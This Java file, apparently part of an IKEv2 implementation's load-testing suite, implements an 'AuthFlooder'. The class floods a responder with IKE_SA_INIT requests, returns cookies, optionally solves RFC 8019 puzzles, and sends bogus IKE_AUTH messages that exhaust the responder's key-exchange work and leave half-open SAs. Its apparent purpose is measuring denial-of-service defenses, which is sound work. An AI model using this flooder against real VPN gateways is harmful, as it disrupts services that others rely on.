package org.bgpipsec.perf.load;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicLong;
import org.bgpipsec.ike.crypto.ClientPuzzle;
import org.bgpipsec.ike.crypto.PrfAlgorithm;
import org.bgpipsec.ike.message.EncryptedPayload;
import org.bgpipsec.ike.message.ExchangeType;
import org.bgpipsec.ike.message.IkeDecodeException;
import org.bgpipsec.ike.message.IkeHeader;
import org.bgpipsec.ike.message.IkeMessage;
import org.bgpipsec.ike.message.IkeMessageCodec;
import org.bgpipsec.ike.message.NotifyPayload;
import org.bgpipsec.ike.message.NotifyType;
import org.bgpipsec.ike.message.Octets;
import org.bgpipsec.ike.message.Payload;
import org.bgpipsec.ike.message.PayloadType;
import org.bgpipsec.ike.message.PuzzleNotification;
import org.bgpipsec.ike.message.PuzzleSolutionPayload;

/**
 * An attacker that can receive at the addresses it uses (so cookies do not stop it): it starts
 * IKE_SA_INIT exchanges at a fixed rate, returns every COOKIE it is sent (RFC 7296 2.6), and
 * answers every IKE_SA_INIT response with a bogus IKE_AUTH request (the responder's SPI, message ID
 * 1, an SK payload of random octets) that the responder can only reject after deriving the keys and
 * checking the integrity of the SK payload. Each such exchange costs the responder a key exchange
 * and leaves a half-open IKE SA behind until it expires.
 *
 * <p>With {@code solvePuzzles}, it also solves every RFC 8019 puzzle that comes with a cookie (on
 * its one thread, as a single-core attacker would), and counts the CPU time that costs it: the
 * attacker's price per IKE_SA_INIT the responder accepts.
 */
final class AuthFlooder implements Attack {
  private static final int SK_BODY = 256;
  private static final long MAX_SOLVE_ATTEMPTS = 1L << 26;
  private long puzzleStart;

  private final List<DatagramChannel> sockets = new ArrayList<>();
  private final InetSocketAddress target;
  private final IkeMessage template;
  private final double rate;
  private final Selector selector;
  private final AtomicLong sent = new AtomicLong();
  private final AtomicLong cookiesReturned = new AtomicLong();
  private final AtomicLong authsSent = new AtomicLong();
  private final boolean solvePuzzles;
  private final AtomicLong puzzlesSolved = new AtomicLong();
  private final AtomicLong solveCpuNanos = new AtomicLong();
  private final ThreadMXBean mx = ManagementFactory.getThreadMXBean();
  private volatile boolean running;
  private Thread thread;

  AuthFlooder(
      List<InetAddress> sources,
      InetSocketAddress target,
      byte[] template,
      double rate,
      boolean solvePuzzles)
      throws IOException {
    this.target = target;
    this.solvePuzzles = solvePuzzles;
    try {
      this.template =
          IkeMessageCodec.decode(
              ByteBuffer.wrap(
                  template,
                  InitRequestTemplate.SPI_OFFSET,
                  template.length - InitRequestTemplate.SPI_OFFSET));
    } catch (IkeDecodeException e) {
      throw new IllegalArgumentException("template is no IKE message", e);
    }
    this.rate = rate;
    this.selector = Selector.open();
    for (InetAddress a : sources) {
      DatagramChannel c = DatagramChannel.open();
      c.configureBlocking(false);
      c.bind(new InetSocketAddress(a, 0));
      c.register(selector, SelectionKey.OP_READ);
      sockets.add(c);
    }
  }

  @Override
  public void start() {
    if (rate <= 0) {
      return;
    }
    running = true;
    thread = Thread.ofPlatform().name("perf-auth-flooder").daemon().start(this::loop);
  }

  private void loop() {
    RatePacer pacer = new RatePacer(rate, System::nanoTime);
    SplittableRandom random = new SplittableRandom();
    ByteBuffer in = ByteBuffer.allocate(65536);
    int next = 0;
    try {
      while (running) {
        long due = pacer.dueNow();
        for (long i = 0; i < due && running; i++) {
          DatagramChannel c = sockets.get(next);
          next = (next + 1) % sockets.size();
          send(c, init(random.nextLong() | 1, null, null));
          sent.incrementAndGet();
        }
        pacer.issued(due);
        selector.select(1);
        for (SelectionKey k : selector.selectedKeys()) {
          DatagramChannel c = (DatagramChannel) k.channel();
          in.clear();
          while (running && c.receive(in) != null) {
            in.flip();
            answer(c, in, random);
            in.clear();
          }
        }
        selector.selectedKeys().clear();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Handles one datagram from the responder: non-ESP marker, then an IKE message. */
  private void answer(DatagramChannel c, ByteBuffer datagram, SplittableRandom random)
      throws IOException {
    if (datagram.remaining() < 4 + IkeHeader.LENGTH || datagram.getInt(0) != 0) {
      return;
    }
    datagram.position(4);
    IkeMessage m;
    try {
      m = IkeMessageCodec.decode(datagram.slice());
    } catch (IkeDecodeException e) {
      return;
    }
    IkeHeader h = m.header();
    if (!h.response() || h.exchangeType() != ExchangeType.IKE_SA_INIT.code()) {
      return;
    }
    Optional<NotifyPayload> cookie =
        m.all(NotifyPayload.class).stream()
            .filter(n -> n.notifyType() == NotifyType.COOKIE.code())
            .findFirst();
    if (cookie.isPresent()) {
      PuzzleSolutionPayload solution = solvePuzzles ? solve(m, cookie.get().data()) : null;
      send(c, init(h.initiatorSpi(), cookie.get().data(), solution));
      cookiesReturned.incrementAndGet();
    } else if (h.responderSpi() != 0) {
      byte[] body = new byte[SK_BODY];
      for (int i = 0; i < body.length; i++) {
        body[i] = (byte) random.nextInt();
      }
      IkeMessage auth =
          new IkeMessage(
              new IkeHeader(
                  h.initiatorSpi(),
                  h.responderSpi(),
                  2,
                  0,
                  ExchangeType.IKE_AUTH.code(),
                  true,
                  false,
                  false,
                  1),
              List.of(
                  new EncryptedPayload(
                      PayloadType.IDENTIFICATION_INITIATOR.code(), Octets.of(body))));
      send(c, IkeMessageCodec.encode(auth));
      authsSent.incrementAndGet();
    }
  }

  /**
   * The puzzle that came with {@code cookie} solved (its CPU time counted), or null when there is
   * none or it names a PRF we do not have.
   */
  private PuzzleSolutionPayload solve(IkeMessage answer, Octets cookie) {
    Optional<PuzzleNotification> puzzle =
        answer.all(NotifyPayload.class).stream()
            .map(PuzzleNotification::of)
            .flatMap(Optional::stream)
            .findFirst();
    Optional<PrfAlgorithm> prf = puzzle.flatMap(p -> PrfAlgorithm.fromTransformId(p.prf()));
    if (prf.isEmpty()) {
      return null;
    }
    long cpu0 = mx.getCurrentThreadCpuTime();
    Optional<ClientPuzzle.Solution> s =
        ClientPuzzle.solve(
            prf.get(),
            cookie.toByteArray(),
            Math.max(1, puzzle.get().difficulty()),
            puzzleStart++,
            MAX_SOLVE_ATTEMPTS);
    solveCpuNanos.addAndGet(mx.getCurrentThreadCpuTime() - cpu0);
    if (s.isEmpty()) {
      return null;
    }
    puzzleStart += s.get().attempts();
    puzzlesSolved.incrementAndGet();
    return new PuzzleSolutionPayload(s.get().keys().stream().map(Octets::of).toList());
  }

  /**
   * The template's IKE_SA_INIT request with SPIi {@code spi}, with {@code cookie} first and then
   * {@code solution} if any.
   */
  private byte[] init(long spi, Octets cookie, PuzzleSolutionPayload solution) {
    IkeHeader t = template.header();
    List<Payload> payloads = new ArrayList<>();
    if (cookie != null) {
      payloads.add(NotifyPayload.of(NotifyType.COOKIE, cookie));
      if (solution != null) {
        payloads.add(solution);
      }
    }
    template.payloads().stream()
        .filter(p -> !(p instanceof NotifyPayload n && n.notifyType() == NotifyType.COOKIE.code()))
        .forEach(payloads::add);
    return IkeMessageCodec.encode(
        new IkeMessage(
            new IkeHeader(
                spi,
                0,
                t.majorVersion(),
                t.minorVersion(),
                t.exchangeType(),
                true,
                false,
                false,
                0),
            payloads));
  }

  /** Sends an IKE message to the responder's NAT-traversal port, behind the non-ESP marker. */
  private void send(DatagramChannel c, byte[] message) throws IOException {
    ByteBuffer b = ByteBuffer.allocate(4 + message.length);
    b.putInt(0).put(message).flip();
    c.send(b, target);
  }

  @Override
  public long sent() {
    return sent.get();
  }

  /** COOKIEs returned so far. */
  long cookiesReturned() {
    return cookiesReturned.get();
  }

  /** Bogus IKE_AUTH requests sent so far: IKE_SA_INIT requests the responder accepted. */
  long authsSent() {
    return authsSent.get();
  }

  /** What solving puzzles cost this attacker so far. */
  AttackerStats attackerStats() {
    return new AttackerStats(
        solvePuzzles, puzzlesSolved.get(), solveCpuNanos.get() / 1e9, authsSent.get());
  }

  @Override
  public void stop() throws InterruptedException {
    running = false;
    if (thread != null) {
      thread.join();
    }
  }

  @Override
  public void close() throws IOException, InterruptedException {
    stop();
    for (DatagramChannel c : sockets) {
      c.close();
    }
    selector.close();
  }
}
